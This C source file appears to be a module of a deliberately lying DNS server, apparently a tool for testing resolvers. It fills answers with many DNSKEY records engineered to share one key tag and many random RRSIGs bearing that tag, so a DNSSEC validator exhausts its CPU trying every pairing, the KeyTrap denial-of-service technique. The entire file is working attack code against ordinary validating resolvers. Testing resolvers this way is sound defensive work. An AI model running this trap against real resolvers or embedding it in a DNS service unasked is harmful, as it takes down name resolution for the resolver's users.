/*
 * The fault of change.h that costs a validator work: many keys with the same tag, and as many signatures
 * that seem to be theirs.
 */
#include "change.h"
#include "message.h"

#include <string.h>
#include <time.h>

#define MODULUS         256 /* octets of an RSA-2048 modulus, and of a signature */
#define KEY_HEAD        8   /* flags, protocol, algorithm, length of the exponent, exponent 65537 */
#define KEY_LENGTH      (KEY_HEAD + MODULUS)
#define SIG_HEAD        18 /* RRSIG fields before the signer's name */
#define ALGORITHM       8
#define DAY             86400
#define NAME_MAX_OCTETS 255

/* A key whose modulus is turned by `turn` words: the key tag is a sum of words, so it is the same for all. */
static void write_key(uint8_t key[KEY_LENGTH], size_t turn)
{
	static const uint8_t head[KEY_HEAD] = {1, 0, 3, ALGORITHM, 3, 1, 0, 1};

	memcpy(key, head, sizeof(head));
	for (size_t i = 0; i < MODULUS / 2; i++) {
		size_t word = (i + turn) % (MODULUS / 2);

		key[KEY_HEAD + 2 * i] = (uint8_t)(0x80 + word * 7);
		key[KEY_HEAD + 2 * i + 1] = (uint8_t)(word * 2 + 1);
	}
}

/* RFC 4034 appendix B. */
static unsigned key_tag(const uint8_t key[KEY_LENGTH])
{
	uint32_t sum = 0;

	for (size_t i = 0; i < KEY_LENGTH; i += 2)
		sum += liar_get16(key, i);
	return (sum + (sum >> 16)) & 0xffff;
}

/* Writes the signer's name in full: that of the first RRSIG there is, or the name of the question. */
static size_t write_signer(const struct liar_exchange *exchange, uint8_t *name)
{
	struct liar_record record = {0};
	size_t at = LIAR_HEADER;

	if (liar_find(exchange, LIAR_TYPE_RRSIG, &record))
		at = record.rdata + SIG_HEAD;
	size_t end = liar_skip_name(exchange->answer, exchange->length, at);
	size_t length = end < at || end - at > NAME_MAX_OCTETS ? 0 : end - at;

	memcpy(name, exchange->answer + at, length);
	return length;
}

static unsigned labels_of_question(const struct liar_exchange *exchange)
{
	unsigned labels = 0;

	for (size_t at = LIAR_HEADER; exchange->query[at] != 0; at += 1 + (size_t)exchange->query[at])
		labels++;
	return labels;
}

static void put_signature(struct liar_exchange *exchange, unsigned type, const uint8_t *signer, size_t length)
{
	uint8_t key[KEY_LENGTH];
	uint32_t now = (uint32_t)time(NULL);

	write_key(key, 0);
	liar_put_record(exchange, LIAR_TYPE_RRSIG, SIG_HEAD + length + MODULUS);
	liar_put16(exchange, type);
	liar_put8(exchange, ALGORITHM);
	liar_put8(exchange, labels_of_question(exchange));
	liar_put32(exchange, 60);
	liar_put32(exchange, now + 30 * DAY);
	liar_put32(exchange, now - DAY);
	liar_put16(exchange, key_tag(key));
	liar_put(exchange, signer, length);
	for (int i = 0; i < MODULUS; i++)
		liar_put8(exchange, i == 0 ? 0 : liar_chance(exchange->liar));
}

static unsigned put_keys(struct liar_exchange *exchange, unsigned count)
{
	uint8_t key[KEY_LENGTH];

	for (unsigned i = 0; i < count; i++) {
		write_key(key, i);
		liar_put_record(exchange, LIAR_TYPE_DNSKEY, sizeof(key));
		liar_put(exchange, key, sizeof(key));
	}
	return count;
}

/* Takes out all but the answer's own records; returns how many are left. */
static unsigned keep_answer(struct liar_exchange *exchange)
{
	struct liar_record record = {0};

	while (liar_next_record(exchange->answer, exchange->length, &record)) {
		if (record.section == LIAR_ANSWER && record.type != LIAR_TYPE_RRSIG)
			continue;
		liar_remove(exchange, &record);
		record = (struct liar_record){0};
	}
	return liar_count(exchange, LIAR_ANSWER);
}

void liar_change_trap(struct liar_exchange *exchange)
{
	uint8_t signer[NAME_MAX_OCTETS];
	size_t end = liar_question_end(exchange->answer, exchange->length);

	if (end == 0)
		return;
	size_t length = write_signer(exchange, signer);
	unsigned type = liar_get16(exchange->answer, end - 4);
	unsigned count = exchange->listener->value;
	unsigned records = 0;

	if (type == LIAR_TYPE_DNSKEY) {
		liar_keep_question(exchange);
		records = put_keys(exchange, count);
	} else {
		records = keep_answer(exchange);
	}
	for (unsigned i = 0; i < count; i++)
		put_signature(exchange, type, signer, length);
	liar_set_count(exchange, LIAR_ANSWER, records + count);
	liar_put_opt(exchange, NULL, 0);
}
